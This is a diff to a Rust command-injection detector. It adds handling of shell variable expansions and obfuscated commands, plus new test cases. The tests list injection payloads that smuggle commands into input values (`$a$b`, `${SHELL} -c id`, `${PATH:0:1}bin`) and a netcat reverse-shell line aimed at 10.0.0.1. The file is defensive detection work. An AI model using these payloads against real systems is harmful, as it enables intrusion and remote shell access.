@@ -534,6 +534,8 @@ impl Rce {
         let mut expect_cmd = true;
         let mut words = 0;
         let mut sep_end = 0;
+        // Variables this value assigns where a command starts (`X=$'id'`), a few at most.
+        let mut assigned: Vec<&str> = Vec::new();
         while i < b.len() && words < 512 {
             let c = b[i];
             if c == b' ' || c == b'\t' || c == 0x0B || c == 0x0C {
@@ -587,12 +589,24 @@ impl Rce {
                 sep_end = i;
                 continue;
             }
-            // A word: up to whitespace or a separator.
+            // A word: up to whitespace or a separator. A parameter expansion (`c${u}at`,
+            // `${SHELL}`) is part of its word, braces and all.
             let start = i;
             while i < b.len()
                 && !matches!(b[i], b' ' | b'\t' | 0x0B | 0x0C)
                 && separator(b, i).is_none()
             {
+                if b[i] == b'$'
+                    && b.get(i + 1) == Some(&b'{')
+                    && let Some(close) = b[i + 2..]
+                        .iter()
+                        .take(64)
+                        .position(|&c| matches!(c, b'}' | b'{' | b'\n' | b' ' | b'`' | b'(' | b')'))
+                        .filter(|&p| b[i + 2 + p] == b'}')
+                {
+                    i += close + 3;
+                    continue;
+                }
                 i += 1;
             }
             words += 1;
@@ -602,11 +616,37 @@ impl Rce {
                 continue;
             }
             // A redirection ends the command word (`cat</etc/passwd`, `rev<<<'di'`).
-            let clean = clean_word(raw.split(['<', '>']).next().unwrap_or(raw));
+            let word = raw.split(['<', '>']).next().unwrap_or(raw);
+            // A command word made only of variables runs what they hold: a shell (`$0`,
+            // `${SHELL}`), or a command this value put in them (`a=i;b=d;$a$b`).
+            // The shell's variables need a redirection or an argument after them, as `$0`
+            // is also a price in prose.
+            let clean = match expansion_names(word.trim_matches('"')) {
+                Some(names)
+                    if names.iter().any(|n| matches!(*n, "0" | "shell" | "bash"))
+                        && (word.len() < raw.len()
+                            || evidence_after(b, i) == Evidence::Argument) =>
+                {
+                    "sh".to_owned()
+                }
+                Some(names) if sep_end == start && names.iter().any(|n| assigned.contains(n)) => {
+                    sink.hit(RCE_OBFUSCATED_COMMAND, text, start);
+                    expect_cmd = false;
+                    continue;
+                }
+                _ => clean_word(word),
+            };
             if clean.is_empty() {
                 continue;
             }
             if is_assignment(&clean) {
+                // A number is a value, not a command (`total=5;$total`).
+                if assigned.len() < 8
+                    && let Some((name, value)) = raw.split_once('=')
+                    && value.bytes().any(|c| c.is_ascii_alphabetic())
+                {
+                    assigned.push(name);
+                }
                 continue;
             }
             if PREFIX_WORDS.contains(&clean.as_str()) {
@@ -1120,7 +1160,9 @@ fn evidence_after(b: &[u8], mut i: usize) -> Evidence {
             }
         }
         b'/' | b'~' | b'$' | b'>' | b'<' | b'*' | b'\\' => Evidence::Argument,
+        // `./x`, `../x`, and `.` or `..` standing alone: the working folder or its parent.
         b'.' if matches!(b.get(i + 1), Some(b'/' | b'.')) => Evidence::Argument,
+        b'.' if b.get(i + 1).is_none_or(|&c| matches!(c, b' ' | b'\t')) => Evidence::Argument,
         b'a'..=b'z'
             if b[i..]
                 .iter()
@@ -1191,6 +1233,32 @@ fn raw_is_obfuscated(raw: &str) -> bool {
         || raw.contains("$$")
         || raw.contains("${")
         || letters_inside.contains('^')
+}
+
+/// The names of the variables a word is made of (`$a$b`, `${SHELL}`, `$0`), or `None` when it
+/// holds anything else.
+fn expansion_names(word: &str) -> Option<Vec<&str>> {
+    let mut names = Vec::new();
+    let mut rest = word;
+    while !rest.is_empty() {
+        rest = rest.strip_prefix('$')?;
+        let (name, after) = match rest.strip_prefix('{') {
+            Some(inner) => inner.split_once('}')?,
+            None if rest.starts_with(|c: char| c.is_ascii_digit()) => rest.split_at(1),
+            None => rest.split_at(
+                rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                    .unwrap_or(rest.len()),
+            ),
+        };
+        let valid = name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
+            && (name.len() == 1 || name.starts_with(|c: char| !c.is_ascii_digit()));
+        if name.is_empty() || !valid || names.len() == 8 {
+            return None;
+        }
+        names.push(name);
+        rest = after;
+    }
+    (!names.is_empty()).then_some(names)
 }
 
 fn is_assignment(word: &str) -> bool {
@@ -1331,6 +1399,11 @@ mod tests {
                 "1;sleep${IFS}5",
                 "1.2.3.4;${PATH:0:1}bin${PATH:0:1}id",
                 "a|${HOME::1}usr${HOME::1}bin${HOME::1}whoami",
+                "8.8.8.8;X=$'uname\\x20-a'&&$X",
+                "8.8.8.8;a=i;b=d;$a$b",
+                "8.8.8.8;$0<<<id",
+                "8.8.8.8;${SHELL} -c id",
+                "8.8.8.8; find . -exec id \\;",
                 "a\nnc -e /bin/sh 10.0.0.1 4444",
                 "x; sleep 5",
                 "example.org\nid\n",
@@ -1502,6 +1575,10 @@ mod tests {
                 "the system \"just works\" for us",
                 "exec 'Kim' signs off today",
                 "<foo val=`bar' />",
+                "Pay nothing today; $0 down",
+                "total=5;$total due",
+                "name=Bob; $name says hi",
+                "I can't find . anything",
             ],
         );
     }
